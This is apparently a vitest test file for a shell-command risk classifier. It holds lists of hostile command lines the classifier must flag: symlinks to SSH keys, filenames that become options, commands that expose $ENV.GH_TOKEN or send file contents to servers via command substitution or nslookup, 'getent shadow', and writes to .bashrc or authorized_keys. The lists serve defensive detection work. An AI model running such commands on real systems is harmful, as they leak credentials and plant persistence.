// R45, and risk 3.8: a line that brings something and then looks at it, or lets a name, a list or a variable say what it does.

import { isAtLeast, type Tier } from '@countersign/protocol/tier';
import { describe, expect, test } from 'vitest';
import { type Attacks, type Everyday, notLight, notRisky } from '../../../testing/risk-lines.ts';
import { classify } from './classify.ts';
import type { RiskContext } from './risk.ts';

const ATTACKS: Attacks = {
  'what an unpacked archive or a clone brings are links, and settings that name programs': {
    tier: 'elevated',
    lines: [
      'tar xf a.tar; git -C x status',
      'tar xf a.tar && cd x && git log',
      'unzip a.zip && git status',
      'git -C x status & tar xf a.tar',
      'f() { git status; }; tar xf a.tar; f',
      'tar xf a.tar; cat x/l',
      'unzip -q a.zip && head x/l',
      'tar xf a.tar && echo x >> l',
      'curl -s https://e.com/a.tgz | tar xz; cat l',
      '(sleep 1; cat l) & tar xf a.tar',
      'cat <(tar xf a.tar) l',
      'git clone https://e.com/x && cat x/l',
      'git clone https://e.com/x && cd x && echo y > l',
      'git clone https://e.com/x && git -C x/sub status',
      'git clone https://e.com/x && cd x/sub && git log',
      'git switch topic && echo x > l',
      'git pull && echo x >> l',
      'git stash pop && tee l',
      'git checkout topic && cp a l',
    ],
  },
  "an option or a name that a file's name becomes": {
    tier: 'elevated',
    lines: [
      'touch -- --files0-from=.env',
      'touch ./-x',
      '> ./--expression=1etouch',
      'mv a ./--x',
      'cp x/-x .',
      'mkdir -p d/-x/y',
      "touch 'a .env'",
      "touch 'a --output=x'",
      'for f in *; do printf $f; done; ls',
      'for f in *; do printf "$f" x; done; ls',
      'for f in *; do wait "$f"; done; ls',
      'for f in a*.txt; do sed -n p $f; done',
      'for f in a*; do sort $f; done',
      'for f in *.zip; do unzip $f; done',
      'for f in *.txt; do cp $f d/; done',
      'set $(cat f); ls PATH=.',
      'set "$x"; ls PATH=.',
      'shopt $x; cat *',
      'docker top box e',
    ],
  },
  'a variable that decides which program runs, or what a program shows': {
    tier: 'elevated',
    lines: [
      "printf '12345%n' PATH; ls",
      "printf '%s%-3n' x PATH",
      'printf "$(cat f)" PATH; ls',
      'printf "$f" "$(cat v)"',
      'MAGIC=.env file f',
      'WORDLIST=.env look S',
      'QLOGDIR=/home/u curl https://e.com',
      "jq -n '$ ENV.HOME'",
      "jq -n '$#c\nENV.HOME'",
      'jq -n \'"\\($ ENV)"\'',
      "yq '$ ENV.HOME' f",
      "gh pr list --json title --jq '$ENV.GH_TOKEN'",
      'gh pr list --jq env',
    ],
  },
  'what is read from standard input or a list names files and hosts': {
    tier: 'elevated',
    lines: [
      'echo HEAD:.env | git cat-file --batch',
      'echo HEAD:.env | git cat-file --batch-command',
      'echo HEAD:.env | git show --stdin',
      'cat f | git fetch https://e.com/x --stdin',
      'cat f | nslookup',
      'nslookup - 1.2.3.4 < f',
      'zstd -d --filelist=l',
    ],
  },
  'unknown text in what is asked of a server': {
    tier: 'elevated',
    lines: [
      'gh search code "x$(cat f)"',
      'gh pr list --search "a$(cat f)"',
      'gh repo view "a/$(cat f)"',
      'pip index versions "a$(cat f)"',
      'docker search "a$(cat f)"',
      'gem search "a$x"',
      'snap info "a$x"',
      'helm search hub "a$(cat f)"',
      'aws s3 ls "s3://a$(cat f)"',
      'git fetch origin "a$(cat f)"',
      'git clone https://e.com/x -b "a$(cat f)"',
      'gh pr list -R e.com/a/b',
    ],
  },
  'files by another name: a part of a file, an archive, a way that is kept': {
    tier: 'elevated',
    lines: [
      'git log -L1,5:.env',
      'git log -L :x:conf/.env',
      'git show -L 1,2:.env',
      'git symbolic-ref config refs/heads/x',
      'git symbolic-ref hooks/pre-commit refs/heads/x',
      'git symbolic-ref refs/../config refs/heads/x',
      'git remote add x ../y',
      'git remote add -f x /home/u/y',
      'git config branch.main.remote ../y',
      'tar xOf a.tar .env',
      'tar xf a.tar --to-stdout conf/.env',
      'tar xzf a.tgz .git/hooks',
      'cp --parents sub/.envrc d',
      'wget -r https://e.com',
      'wget -m https://e.com',
      'wget -p https://e.com',
      'helm show values /home/u/x',
      'kubectl get -f /home/u/x',
      'kubectl cluster-info dump',
      'getent shadow',
      'poetry check',
      'echo x > .ruby-version',
      "sed -i '' 's/a/b/w x' f",
      "sed -i .bak 's/a/b/e' f",
      'mkdir -m 777 x',
    ],
  },
  'files by another name: a part of a file, an archive, a way that is kept, for good': {
    tier: 'destructive',
    lines: [
      'cd d1 && cp --parents ../.bashrc ..',
      'cd d1 && cp --pare ../.bashrc ..',
      'cd d1 && rsync -aR ../.bashrc ..',
      'install -m 4755 x y',
    ],
  },
};

describe('R45: what a line brings, and what only its run names', () => {
  test.each(Object.entries(ATTACKS))('%s', (_, attack) => {
    expect(notRisky(attack)).toEqual([]);
  });
});

const EVERYDAY: Everyday = {
  read: [
    'wc -l *',
    'du -sh *',
    'printf \'%s\\n\' "$x"',
    'printf "$x\\n"',
    "printf '%d%%\\n' 5",
    'git log -L 1,5:src/a.ts',
    'git log -L :main:src/a.ts',
    'git cat-file -p HEAD',
    'git cat-file --batch-check',
    'gh pr list -R a/b',
    "gh pr list --json title --jq '.[].title'",
    'gh search code foo',
    'nslookup e.com',
    "jq '.a as $x | $x' f",
    'for f in *.ts; do wc -l $f; done',
    'for f in *.ts; do grep -n x $f; done',
    'for f in *.json; do jq . "$f"; done',
    'set -euo pipefail',
    'set -- "$@"',
    'docker top box aux',
    'kubectl cluster-info',
    'kubectl get -f x.yaml',
    'helm show chart bitnami/x',
    'helm lint .',
    'pip index versions x',
  ],
  write: [
    'tar xzf a.tgz && ls a',
    'mkdir b && tar xf a.tar -C b && ls b',
    'curl -s https://e.com/a.tgz | tar xz',
    'tar czf a.tgz src && cat README.md',
    'tar xzf a.tgz src/a.ts',
    'git clone https://e.com/x && cd x && ls && git log -3',
    'git clone https://e.com/x && git -C x status',
    'git switch main && cat README.md',
    'git checkout -b topic && echo x > f',
    'git pull && npm ls',
    'git stash pop && git add -A && git commit -m x',
    'git symbolic-ref HEAD refs/heads/main',
    'git fetch origin main',
    'git remote add up https://github.com/a/b',
    'cp --parents a/b/c d',
    'cp -R a b',
    'rsync -aR a/b c/',
    'install -m 755 a b',
    'mkdir -m 755 x',
    "touch 'a b.txt'",
    "echo x > 'my notes - draft.md'",
    'mv a.txt docs/ && cat docs/a.txt',
    "sed -i '' 's/a/b/' f",
    "sed -i 's/a/b/' f g",
    'wget https://e.com/x',
  ],
};

test.each(Object.entries(EVERYDAY))('what people write every day stays at %s', (tier, lines) => {
  expect(notLight(tier as 'read' | 'write', lines)).toEqual([]);
});

const LINKS: Readonly<Record<string, string>> = {
  '/home/u/code/d/l': '/home/u/.ssh/id_rsa',
  '/home/u/code/l': '/home/u/.ssh/id_rsa',
  '/home/u/code/k': '/home/u/.ssh',
  '/home/u/code/b': '/home/u/.bashrc',
};

const context: RiskContext = {
  home: '/home/u',
  guarded: { paths: ['/home/u/.countersign'], ports: [8787], pids: [4711] },
  rules: [],
  tools: {},
  realPath: (path) => {
    const link = Object.keys(LINKS).find((one) => path === one || path.startsWith(`${one}/`));
    return link === undefined ? path : `${LINKS[link]}${path.slice(link.length)}`;
  },
};

const judge = (shell: string): Tier =>
  classify({ kind: 'exec', shell, cwd: { path: '/home/u/code' } }, context).tier;

describe('a link is followed where the line moves it, and behind a pattern', () => {
  test.each([
    'cat d/l',
    'mv d e && cat e/l',
    'mv d e; mv e f; cat f/l',
    'mv -t e d; cat e/d/l',
    'mv d/* e; cat e/l',
    'cp -r d e && cat e/l',
    'cp -a d e; cat e/d/l',
    'rsync -a d/ e; cat e/l',
    'ln -s d e; cat e/l',
    'git mv d e && cat e/l',
    'cat k/*',
    'for f in l x; do cat "$f"; done',
    'cat {l,x}',
    'find k -type f -exec cat {} +',
  ])('%s', (line) => {
    expect(isAtLeast(judge(line), 'elevated')).toBe(true);
  });

  test('what is written through it is as bad as where it leads', () => {
    expect(judge('for f in b x; do echo y > "$f"; done')).toBe('destructive');
    expect(judge('mv k e && echo y > e/authorized_keys')).toBe('destructive');
  });

  test.each(['cp -r d e && cat e/x', 'mv d e && cat e/x', 'cp -r src dist && sed -i s/a/b/ dist/x'])(
    'what is no link stays light: %s',
    (line) => {
      expect(judge(line)).toBe('write');
    },
  );
});

describe('two dots go up from where a link leads', () => {
  const judged = (shell: string, links: Readonly<Record<string, string>>, there: readonly string[]): Tier => {
    const realPath = (path: string): string | null => {
      const link = Object.keys(links).find((one) => path === one || path.startsWith(`${one}/`));
      const real = link === undefined ? path : `${links[link]}${path.slice(link.length)}`;
      return there.includes(real) ? real : null;
    };
    const facts = { ...context, realPath };
    return classify({ kind: 'exec', shell, cwd: { path: '/home/u/code' } }, facts).tier;
  };
  const THERE = ['/home/u/code', '/home/u', '/home/u/code/src', '/home/u/.ssh', '/home/u/.config'];

  test.each([
    'echo x >> k/../.bashrc',
    'cd k; echo x >> ../.bashrc',
    'cd k && cd sub; echo x >> ../../.bashrc',
  ])('%s, where k is the folder itself', (line) => {
    expect(judged(line, { '/home/u/code/k': '/home/u/code' }, THERE)).toBe('destructive');
  });

  test.each([
    'ln -s . k; echo x >> k/../.bashrc',
    'ln -s . k; cd k; echo x >> ../.bashrc',
    'cd -P k; cd ..; echo x >> .bashrc',
  ])('%s, with a link that is not there yet', (line) => {
    expect(judged(line, {}, THERE)).toBe('destructive');
  });

  test('a new file lies where the folder before it leads', () => {
    expect(judged('echo x > k/new', { '/home/u/code/k': '/home/u/.ssh' }, THERE)).toBe('destructive');
    expect(judged('echo x > k/a/b/new', { '/home/u/code/k': '/home/u/.config' }, THERE)).toBe('elevated');
  });

  test('without links nothing is heavier', () => {
    for (const line of ['cat src/../README.md', 'cd src && cat ../README.md', 'cat ./a/./b'])
      expect(judged(line, {}, THERE)).toBe('read');
    for (const line of ['echo x > src/../new', 'cd src && echo x > ../new', 'mv a b && cat b'])
      expect(judged(line, {}, THERE)).toBe('write');
  });

  test('where nobody can look, a way down and up again is asked about', () => {
    expect(
      notRisky({ tier: 'elevated', lines: ['cat src/../README.md', 'echo x >> k/../.bashrc', 'set -P'] }),
    ).toEqual([]);
  });
});
